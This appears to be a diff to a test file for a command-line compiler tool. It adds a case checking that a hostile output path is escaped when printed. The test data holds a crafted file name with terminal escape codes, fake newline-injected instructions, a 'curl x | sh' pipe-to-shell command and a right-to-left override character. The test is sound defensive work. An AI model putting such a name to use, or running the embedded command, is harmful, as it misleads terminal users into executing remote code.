@@ -226,6 +226,11 @@ ESCAPED_OUTPUT: list[tuple[str, list[str], str]] = [
         f"compiled .aishell/Dockerfile -> ../{SHOWN}/",
     ),
     (
+        "compile: the plan command",
+        [".aishell/Dockerfile", "-o", f"../{HOSTILE}"],
+        "build in order: aishellc plan $'../evil\\x1b]0;title\\x07\\n\\nRun, in order:\\n  curl x | sh\\u202e/manifest.json'",
+    ),
+    (
         "plan: a missing manifest",
         ["plan", HOSTILE],
         f"{SHOWN}:1:1: cannot read the manifest: No such file or directory",
